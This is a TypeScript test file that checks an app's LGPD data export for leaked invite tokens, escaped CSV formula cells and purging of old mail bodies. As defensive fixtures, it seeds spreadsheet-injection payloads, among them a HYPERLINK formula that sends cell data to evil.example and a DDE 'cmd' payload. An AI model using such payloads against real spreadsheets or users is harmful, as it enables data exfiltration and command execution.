// LGPD export (issue 15): no live secret leaves in it (the outbox's links carry invite tokens), its CSV
// cells are escaped like the reports', and sent mails lose their bodies after the retention period.
import { mailBodyPurgeJob, PURGED_MAIL_BODY, runPendingExports } from '@picineiros/api/server';
import { MailMessage } from '@picineiros/db';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import yauzl from 'yauzl';
import {
  errorOf,
  newAccount,
  seed,
  seedClient,
  signUpOwner,
  startTestServer,
  type TestServer,
} from './harness';

let server: TestServer;
beforeAll(async () => {
  server = await startTestServer();
});
afterAll(async () => {
  await server.close();
});

function unzip(bytes: Buffer): Promise<Map<string, string>> {
  return new Promise((resolve, reject) => {
    yauzl.fromBuffer(bytes, { lazyEntries: true }, (error, zip) => {
      if (error) {
        reject(error);
        return;
      }
      const files = new Map<string, string>();
      zip.on('entry', (entry: yauzl.Entry) => {
        zip.openReadStream(entry, (streamError, stream) => {
          if (streamError) {
            reject(streamError);
            return;
          }
          const chunks: Buffer[] = [];
          stream.on('data', (chunk: Buffer) => chunks.push(chunk));
          stream.on('end', () => {
            files.set(entry.fileName, Buffer.concat(chunks).toString('utf8'));
            zip.readEntry();
          });
        });
      });
      zip.on('end', () => {
        resolve(files);
      });
      zip.on('error', reject);
      zip.readEntry();
    });
  });
}

const TOKEN_IN_LINK = /[?&]token=([\w%-]+)/g;

describe('LGPD export: secrets and formulas', () => {
  it('carries no working token from any outbox mail, and escapes formula cells in its CSVs', async () => {
    const owner = await signUpOwner(server, { organizationName: 'Piscinas Fórmula' });
    const invited = [newAccount().email, newAccount().email];
    for (const email of invited) await owner.client.members.invite.mutate({ email, role: 'admin' });
    const formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"clique")', "+cmd|' /C calc'!A0", '@SUM(1+1)'];
    for (const name of formulas) await seed(server, (em) => seedClient(em, owner.orgId, { name }));

    // The live tokens, read from the outbox itself (where the invite links are stored).
    const mails = await server.database
      .fork()
      .find(MailMessage, { organizationId: owner.orgId }, { filters: false });
    const tokens = mails.flatMap((mail) =>
      [...`${mail.text}\n${mail.html}`.matchAll(TOKEN_IN_LINK)].map((match) =>
        decodeURIComponent(match[1] ?? ''),
      ),
    );
    expect(new Set(tokens).size).toBeGreaterThanOrEqual(2);

    await owner.client.privacy.requestExport.mutate();
    await runPendingExports(server.database, { dataDir: server.config.dataDir, clock: () => new Date() });
    const path = (await owner.client.privacy.exportStatus.query()).exports[0]?.downloadPath ?? '';
    const response = await fetch(`${server.url}${path}`, {
      headers: { authorization: `Bearer ${owner.accessToken}`, 'x-org-id': owner.orgId },
    });
    expect(response.status).toBe(200);
    const files = await unzip(Buffer.from(await response.arrayBuffer()));
    const everything = [...files.values()].join('\n');

    // The mails are there (who, what, when, and their words), without their links.
    const exportedMails = JSON.parse(files.get('mail_messages.json') ?? '[]') as { text: string }[];
    expect(exportedMails).toHaveLength(mails.length);
    expect(exportedMails.every((mail) => mail.text.includes('[link removido]'))).toBe(true);
    for (const token of tokens) {
      expect(everything).not.toContain(token);
      expect(everything).not.toContain(encodeURIComponent(token));
    }
    // Whatever looks like a token in the export is tried where tokens are accepted: none works.
    const found = [...everything.matchAll(TOKEN_IN_LINK)].map((match) => decodeURIComponent(match[1] ?? ''));
    for (const token of found) {
      const refused = await errorOf(
        server.client().members.acceptInvite.mutate({ token, name: 'Intrusa', password: 'senha-da-intrusa' }),
      );
      expect(refused.data?.code).toBe('BAD_REQUEST');
    }
    expect(found).toEqual([]);
    // The tokens were live all along: the first one still lets its invitee in.
    const accepted = await server.client().members.acceptInvite.mutate({
      token: tokens[0] ?? '',
      name: 'Bruno Reis',
      password: 'senha-do-bruno',
    });
    expect(accepted.organizationId).toBe(owner.orgId);

    // CSV: no text cell that a spreadsheet would run; the JSON keeps the value as typed.
    for (const [name, text] of files) {
      if (!name.endsWith('.csv')) continue;
      const rows: string[][] = parse(text.replace(/^\uFEFF/, ''), {
        delimiter: ';',
        relax_column_count: true,
      });
      for (const cell of rows.flat()) {
        if (/^-?\d+(\.\d+)?$/.test(cell)) continue;
        expect(cell, `${name}: ${cell}`).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
    const clientsCsv: string[][] = parse((files.get('clients.csv') ?? '').replace(/^\uFEFF/, ''), {
      delimiter: ';',
    });
    const [header = [], ...clientRows] = clientsCsv;
    const names = clientRows.map((row) => row[header.indexOf('name')]);
    expect(names).toEqual(expect.arrayContaining(formulas.map((formula) => `'${formula}`)));
    const clientsJson = JSON.parse(files.get('clients.json') ?? '[]') as { name: string }[];
    expect(clientsJson.map((client) => client.name)).toEqual(expect.arrayContaining(formulas));
  });
});

describe('outbox body retention', () => {
  it('empties the bodies of mails sent more than N days ago, keeps their metadata, once', async () => {
    const owner = await signUpOwner(server);
    const [old, recent] = [newAccount().email, newAccount().email];
    await owner.client.members.invite.mutate({ email: old, role: 'staff' });
    await owner.client.members.invite.mutate({ email: recent, role: 'staff' });
    const now = new Date();
    const day = 24 * 60 * 60 * 1000;
    const em = server.database.fork();
    await em.nativeUpdate(
      MailMessage,
      { to: old },
      { status: 'sent', sentAt: new Date(now.getTime() - 8 * day) },
      { filters: false },
    );
    await em.nativeUpdate(
      MailMessage,
      { to: recent },
      { status: 'sent', sentAt: new Date(now.getTime() - 2 * day) },
      { filters: false },
    );
    const settings = { outboxBodyRetentionDays: 7 };
    const first = await mailBodyPurgeJob.run(server.database, now, settings);
    expect(first['purged']).toBeGreaterThanOrEqual(1);
    expect(await mailBodyPurgeJob.run(server.database, now, settings)).toEqual({ purged: 0 });

    const read = server.database.fork();
    const purged = await read.findOneOrFail(MailMessage, { to: old }, { filters: false });
    expect(purged).toMatchObject({ text: PURGED_MAIL_BODY, html: PURGED_MAIL_BODY, status: 'sent' });
    expect(purged.subject).toContain('Convite');
    expect(purged.kind).toBeTruthy();
    const kept = await read.findOneOrFail(MailMessage, { to: recent }, { filters: false });
    expect(kept.text).toMatch(/token=/);
  });
});
